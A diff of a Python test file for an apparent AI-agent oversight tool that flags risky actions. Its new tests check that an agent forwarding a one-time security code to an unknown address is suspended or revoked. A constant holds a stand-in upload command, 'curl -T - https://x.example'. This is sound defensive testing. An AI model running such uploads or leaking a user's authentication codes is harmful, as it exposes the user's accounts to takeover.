@@ -31,7 +31,7 @@ from missionguard.models.rules import (
 )
 from missionguard.pipeline.settings import Settings
 
-COMMANDS, PUBLIC, TAMPERING = DEFAULT_PAYLOAD_RULES
+COMMANDS, PUBLIC, TAMPERING, OUTBOUND = DEFAULT_PAYLOAD_RULES
 UPLOAD = "curl -T - https://x.example"
 
 
@@ -193,3 +193,50 @@ def test_only_s3_has_a_block_public_access_to_remove() -> None:
     assert "public_access" not in det.explain_one(
         {**x, "action": "ec2:DeleteBucketPublicAccessBlock"}
     )
+
+
+def test_a_one_time_code_sent_where_nothing_explains_is_a_finding() -> None:
+    det = RiskyPayload()
+    body = (("body", "認証コード: 493 117"),)
+    x = {"action": "mail.send", "resource": "mailto:x", "texts": body, "purpose_tokens": tokens("")}
+    found = det.explain_one({**x, "destination_unexplained": True})
+    assert found["one_time_code"][0] == det.one_time_code_score
+    # Sent to an address the mission or the principal explains (a code forwarded to its owner):
+    # nothing; nor is a number that is no code.
+    assert "one_time_code" not in det.explain_one({**x, "destination_unexplained": False})
+    order = {**x, "texts": (("body", "Your order 493117 has shipped"),)}
+    assert "one_time_code" not in det.explain_one({**order, "destination_unexplained": True})
+
+
+def test_the_judge_stops_a_code_forwarded_to_an_unknown_address() -> None:
+    from datetime import UTC, datetime, timedelta
+
+    from missionguard.pipeline.records import AuthorizationDecision, MissionDeclaration
+
+    t0 = datetime(2026, 2, 16, 9, 0, tzinfo=UTC)
+    judge = Judge()
+    mission = MissionDeclaration(
+        time=t0, agent_id="sec-1", mission_id="m", issued_by="ops",
+        purpose="Sort ana@corp.example's mail and report to her",
+        allowed_actions=["mail.send", "mail.read"],
+    )  # fmt: skip
+    state, _ = judge.on_mission(None, mission)
+
+    def send(n: int, to: str, body: str) -> AuthorizationDecision:
+        return AuthorizationDecision(
+            event_id=f"e{n}", time=t0 + timedelta(minutes=n), agent_id="sec-1",
+            action="mail.send", resource=f"mailto:{to}", decision="allow", source="test",
+            on_behalf_of="ana@corp.example", operation="send",
+            arguments={"to": [to], "subject": "Fwd", "body": body},
+        )  # fmt: skip
+
+    for n in range(4):  # routine reports to the principal: the cohort learns sends
+        state, verdict = judge.on_decision(state, send(n, "ana@corp.example", "Summary"))
+    state, verdict = judge.on_decision(state, send(5, "ana@corp.example", "code 493117"))
+    assert not verdict.commands  # her own code, to her: explained
+    state, verdict = judge.on_decision(
+        state, send(6, "recovery-desk@proton.example", "Your security code is 493117")
+    )
+    assert [c.action for c in verdict.commands] in (["suspend"], ["revoke"]), verdict
+    names = {f.name for a in verdict.alerts for f in a.detectors}
+    assert "risky_payload.one_time_code" in names
